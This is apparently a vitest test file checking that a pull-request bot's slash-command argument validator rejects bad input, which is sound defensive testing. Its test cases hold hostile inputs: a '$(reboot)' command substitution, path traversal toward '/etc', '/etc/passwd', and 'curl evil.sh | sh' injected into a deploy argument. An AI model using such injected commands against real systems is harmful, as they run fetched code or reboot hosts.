import { describe, expect, it } from "vitest";
import { builtinCommands, type BuiltinServices } from "../../src/commands/builtin-commands.js";
import { createCommandRegistry } from "../../src/commands/command-registry.js";
import { parseCommands } from "../../src/commands/parse-commands.js";
import { validateArgs } from "../../src/commands/validate-args.js";
import { loadConfigFile, parseConfig } from "../../src/config/load-config.js";

const registry = createCommandRegistry(loadConfigFile(), builtinCommands({} as BuiltinServices));
const build = registry.get("build")!;
const context = {
  repo: { owner: "octo", name: "demo", fullName: "octo/demo", cloneUrl: "", htmlUrl: "" },
  pr: { number: 42, headSha: "a".repeat(40), headRef: "f", baseRef: "main", baseSha: "b".repeat(40) },
  requester: "alice",
  command: "build",
};

function check(line: string) {
  const parsed = parseCommands(line);
  expect(parsed.errors).toEqual([]);
  return validateArgs(build, parsed.commands[0]!, context);
}

describe("validateArgs for /build", () => {
  it("fills defaults, rendering templates (tag defaults to pr-<number>)", () => {
    expect(check("/build image")).toEqual({ ok: true, args: { target: "image", tag: "pr-42", context: ".", dockerfile: "Dockerfile" } });
  });

  it("keeps given values", () => {
    expect(check("/build image tag=mario context=images/tkn dockerfile=images/tkn/Dockerfile")).toEqual({
      ok: true,
      args: { target: "image", tag: "mario", context: "images/tkn", dockerfile: "images/tkn/Dockerfile" },
    });
  });

  it.each([
    ["/build", "target", "missing required argument `<target>`"],
    ["/build image tag=$(reboot)", "tag", "`$(reboot)` is not a valid tag: it must match"],
    ["/build image tag=", "tag", "`` is not a valid tag"],
    ['/build image tag="a b"', "tag", "is not a valid tag"],
    ["/build image context=../../etc", "context", "is not a valid context"],
    ["/build image dockerfile=/etc/passwd", "dockerfile", "is not a valid dockerfile"],
    ["/build image colour=red", "colour", "unknown argument `colour`; accepted: tag, context, dockerfile"],
    ["/build docs", "target", "`docs` is not a valid target"],
    ["/build image extra", "extra", "unexpected word `extra`: at most 1 expected (target)"],
    [`/build image tag=${"x".repeat(200)}`, "tag", "is not a valid tag"],
  ])("%s → a problem with %s", (line, argument, message) => {
    const result = check(line);
    expect(result.ok).toBe(false);
    if (result.ok) return;
    const problem = result.problems.find((p) => p.argument === argument);
    expect(problem?.message).toContain(message);
  });

  it("rejects a non-ASCII look-alike in a value", () => {
    const result = check("/build image tag=mаrio"); // Cyrillic а
    expect(result.ok).toBe(false);
  });
});

describe("patterns match the whole value", () => {
  // `^prod|staging$` reads as "prod or staging" but, run as written, means "starts with prod or ends with staging".
  const deploy = createCommandRegistry(
    parseConfig(`commands:
  deploy:
    description: Deploy
    args:
      - { name: env, positional: true, required: true, pattern: "^prod|staging$", description: Where }
      - { name: region, pattern: "^eu|us$", default: "eu", description: Region }
    pipeline: { pipelineRef: { name: deploy } }
`),
    [],
  ).get("deploy")!;
  const run = (line: string) => validateArgs(deploy, parseCommands(line).commands[0]!, context);

  it.each([["prod"], ["staging"]])("accepts %s", (env) => {
    expect(run(`/deploy ${env}`)).toEqual({ ok: true, args: { env, region: "eu" } });
  });

  it.each([['"prod; curl evil.sh | sh"'], ['"curl evil.sh | sh; staging"'], ["production"], ["prod region=eu-evil"]])("refuses /deploy %s", (words) => {
    const result = run(`/deploy ${words}`);
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.problems.map((p) => p.message).join("\n")).toMatch(/is not a valid (env|region): it must match/);
  });
});

describe("usage derived from the declared arguments", () => {
  it("reads like the issue's usage line", () => {
    expect(build.help.usage).toBe("/build image [tag=<tag>] [context=<context>] [dockerfile=<dockerfile>]");
    expect(registry.get("help")!.help.usage).toBe("/help [command]");
  });
});
